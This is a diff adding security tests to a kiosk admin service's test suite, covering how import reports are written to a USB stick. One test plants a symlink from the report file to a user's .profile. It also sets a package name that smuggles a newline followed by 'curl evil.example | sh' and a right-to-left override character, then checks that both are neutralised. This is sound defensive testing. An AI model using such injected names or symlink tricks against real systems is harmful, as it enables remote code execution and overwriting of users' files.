@@ -28,7 +28,7 @@ async function setup(health: 'silent' | 'bad' | 'good', trustedKeys: string[] = 
     pins,
     sticks: () => sticks,
     trustedKeys: async () => trustedKeys,
-    healthTimeoutMs: 300,
+    healthTimeoutMs: 1500,
     refresh: async () => {
       const active = await content.refresh();
       if (health !== 'silent' && active.source === 'installed') setTimeout(() => late.admin!.reportHealth(active.key, health === 'good'), 10);
@@ -98,5 +98,30 @@ describe('admin service', () => {
     const museum = generateKeyPair();
     const { admin } = await setup('good', ['not a key', museum.publicKeyPem]);
     expect((await admin.overview()).signing).toEqual({ trustedKeyIds: [museum.keyId] });
+  });
+
+  it('writes the import report onto the stick without following a link there, with the stick’s names escaped', async () => {
+    const { admin, finished, packageId, sticks } = await setup('good');
+    const stickDir = sticks[0]!.mountPoint;
+    const profile = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'home-')), '.profile');
+    fs.writeFileSync(profile, '# the kiosk user’s own\n');
+    fs.symlinkSync(profile, path.join(stickDir, 'kiosk-import-report.txt'));
+    sticks[0]!.packages[0]!.name = 'pkg\ncurl evil.example | sh\u202e';
+    admin.install(packageId, true);
+    const r = await finished;
+    expect(r.reportWritten).toBe(true);
+    expect(fs.readFileSync(profile, 'utf8')).toBe('# the kiosk user’s own\n');
+    const report = path.join(stickDir, 'kiosk-import-report.txt');
+    expect(fs.lstatSync(report).isFile()).toBe(true);
+    const text = fs.readFileSync(report, 'utf8');
+    expect(text.split('\n')[0]).toBe('Dongfanghong kiosk: import of "pkg\\u000acurl evil.example | sh\\u202e"');
+    expect(text).not.toContain('\u202e');
+  });
+
+  it('writes no report when the report’s name on the stick is a folder, and says so in the result', async () => {
+    const { admin, finished, packageId, sticks } = await setup('good');
+    fs.mkdirSync(path.join(sticks[0]!.mountPoint, 'kiosk-import-report.txt'));
+    admin.install(packageId, true);
+    expect((await finished).reportWritten).toBe(false);
   });
 });
